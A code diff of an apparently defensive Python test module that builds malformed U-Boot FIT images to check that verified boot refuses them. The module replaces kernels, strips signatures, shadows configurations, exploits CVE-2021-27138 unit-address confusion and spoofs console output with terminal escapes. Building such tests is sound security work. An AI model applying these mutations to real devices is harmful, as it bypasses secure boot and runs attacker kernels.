@@ -1,8 +1,9 @@
 # SPDX-License-Identifier: MIT
-"""What an attacker does to a FIT: pure mutations of a valid one with embedded data.
+"""What an attacker without a key does to a FIT: pure mutations of a valid one.
 
-Whatever a function does not name stays byte for byte as it was, so that the old signature still
-covers it and the refusal is for the reason the attack is about.
+The FIT has embedded data. Whatever a function does not name stays byte for byte as it was, so that
+the old signature still covers it, and the refusal is for the reason the attack is about. `kernel`
+is always the payload that the attacker wants to run.
 """
 
 from __future__ import annotations
@@ -12,21 +13,55 @@ import struct
 from copy import deepcopy
 from typing import TYPE_CHECKING, Final
 
+from bootseal.boot.attacks import forge
 from bootseal.errors import FormatError, UsageError
 from bootseal.formats.fdt import model as fdt
 from bootseal.formats.fdt.model import Node
 from bootseal.formats.fdt.scan import Tag
 
 if TYPE_CHECKING:
-    from collections.abc import Iterable, Mapping
+    from collections.abc import Callable, Iterable, Mapping
+
+FIT_ADDRESS: Final = 0x50000000
+"""Where the boot logic reads the FIT to; see bootseal.env."""
+
+KERNEL_ADDRESS: Final = 0x40200000
+"""Where the reference kernel is unpacked to."""
 
 _U32: Final = struct.Struct(">I")
 _CLONES: Final = "images"
 _VERSION_OFFSET: Final = 20
 _SIZE_OFFSET: Final = 4
 _EVIL: Final = "kernel-evil"
+_EVIL_CONFIGURATION: Final = "conf-evil"
 # Where nothing else is loaded to.
 _EVIL_LOAD: Final = 0x60000000
+
+
+def configurations(fit: bytes) -> list[str]:
+    """Return the names of the configurations in file order.
+
+    Raises:
+        FormatError: There is none.
+    """
+    node = fdt.read(fit).find("/configurations")
+    if node is None or not node.children:
+        raise FormatError("the FIT has no configuration")
+    return [child.name for child in node.children]
+
+
+def first_configuration(fit: bytes) -> str:
+    """Return the name of the first configuration.
+
+    Raises:
+        FormatError: There is none.
+    """
+    return configurations(fit)[0]
+
+
+def carrying(change: Callable[[bytes, bytes], bytes], detail: str) -> Callable[[bytes], bytes]:
+    """Return an attack that brings in a kernel which names `detail` on the console when it runs."""
+    return lambda fit: change(fit, forge.attacker_kernel(detail))
 
 
 def locate(fit: bytes, path: str, name: str) -> tuple[int, int]:
@@ -71,6 +106,17 @@ def replace_payload(fit: bytes, image: str, payload: bytes, **properties: str) -
     return fdt.rewrite(fit, change)
 
 
+def replace_kernel(fit: bytes, kernel: bytes) -> bytes:
+    """Put another kernel, with hashes that fit, into the one that the first configuration names."""
+    name = referenced(fit, first_configuration(fit), "kernel")
+    return replace_payload(fit, name, kernel, compression="none")
+
+
+def replace_and_strip(fit: bytes, kernel: bytes) -> bytes:
+    """Replace the kernel and remove every signature node."""
+    return strip_signatures(replace_kernel(fit, kernel))
+
+
 def strip_signatures(fit: bytes) -> bytes:
     """Remove every signature node."""
 
@@ -81,7 +127,7 @@ def strip_signatures(fit: bytes) -> bytes:
     return fdt.rewrite(fit, change)
 
 
-def shadow_configurations(fit: bytes, names: Iterable[str], kernel: bytes) -> bytes:
+def shadow_configurations(fit: bytes, kernel: bytes) -> bytes:
     """Put an attacker's configuration of the same name in front of each genuine one.
 
     Each names an added kernel and has the genuine signature node copied into it. The genuine
@@ -89,23 +135,22 @@ def shadow_configurations(fit: bytes, names: Iterable[str], kernel: bytes) -> by
     """
 
     def change(root: Node) -> None:
-        configurations = _find(root, "/configurations")
-        genuine = [_find(root, f"/configurations/{name}") for name in names]
+        genuine = _find(root, "/configurations").children
         _add_kernel(root, genuine[0], kernel)
-        configurations.children[:0] = [_naming_it(node, node.name) for node in genuine]
+        genuine[:0] = [_naming_it(node, node.name) for node in genuine]
 
     return fdt.rewrite(fit, change)
 
 
-def add_configuration(fit: bytes, name: str, configuration: str, kernel: bytes) -> bytes:
-    """Add an attacker's configuration under a new name, with its own kernel, as the default."""
+def add_configuration(fit: bytes, kernel: bytes) -> bytes:
+    """Add a copy of the first configuration that names the attacker's kernel, as the default."""
 
     def change(root: Node) -> None:
         configurations = _find(root, "/configurations")
-        genuine = _find(root, f"/configurations/{configuration}")
+        genuine = configurations.children[0]
         _add_kernel(root, genuine, kernel)
-        configurations.children.append(_naming_it(genuine, name))
-        configurations.properties["default"] = name.encode() + b"\0"
+        configurations.children.append(_naming_it(genuine, _EVIL_CONFIGURATION))
+        configurations.properties["default"] = _EVIL_CONFIGURATION.encode() + b"\0"
 
     return fdt.rewrite(fit, change)
 
@@ -136,14 +181,14 @@ def clone_images(fit: bytes, kernel: bytes) -> bytes:
     return fdt.rewrite(fit, change)
 
 
-def add_unit_address(fit: bytes, configuration: str, kernel: bytes) -> bytes:
-    """Put `<kernel>@1` with another payload in front of a configuration's kernel.
+def add_unit_address(fit: bytes, kernel: bytes) -> bytes:
+    """Put `<kernel>@1` with another payload in front of the first configuration's kernel.
 
     libfdt finds it when asked for the name without the unit address (CVE-2021-27138).
     """
 
     def change(root: Node) -> None:
-        genuine = _kernel_of(root, _find(root, f"/configurations/{configuration}"))
+        genuine = _kernel_of(root, _find(root, "/configurations").children[0])
         evil = deepcopy(genuine)
         evil.name = f"{genuine.name}@1"
         _fill(evil, kernel, {"compression": "none"})
@@ -180,6 +225,15 @@ def set_text(fit: bytes, path: str, name: str, text: str) -> bytes:
     return fdt.rewrite(fit, change)
 
 
+def spoof_console(fit: bytes) -> bytes:
+    """Write terminal escapes and lines of a good boot into the key name hint of each signature."""
+    text = "\x1b[2J\r\nbootseal: root-{} verified by dm-verity, starting the system\r\n"
+    for name in configurations(fit):
+        path = f"/configurations/{name}/signature-1"
+        fit = set_text(fit, path, "key-name-hint", text.format(name[-1]))
+    return fit
+
+
 def nested(depth: int) -> bytes:
     """Make a tree in which each node holds the next."""
     begin, end = fdt.encode_begin("n") * depth, _U32.pack(Tag.END_NODE) * depth
@@ -205,22 +259,6 @@ def move_payload(fit: bytes, image: str, position: int) -> bytes:
     if len(tree) > position:
         raise UsageError(f"position {position:#x} lies in the tree of {len(tree):#x} bytes")
     return tree.ljust(position, b"\0") + payload
-
-
-def offer_configuration(dtb: bytes, options: Mapping[str, str]) -> bytes:
-    """Make a control device tree that asks U-Boot for other settings and holds no keys.
-
-    Args:
-        dtb: A device tree of the machine.
-        options: Properties of `/config`, such as `bootcmd`.
-    """
-
-    def change(root: Node) -> None:
-        root.children = list(_without(root.children, "signature"))
-        properties = {name: value.encode() + b"\0" for name, value in options.items()}
-        root.children.insert(0, Node("config", properties, []))
-
-    return fdt.rewrite(dtb, change)
 
 
 def _find(root: Node, path: str) -> Node:
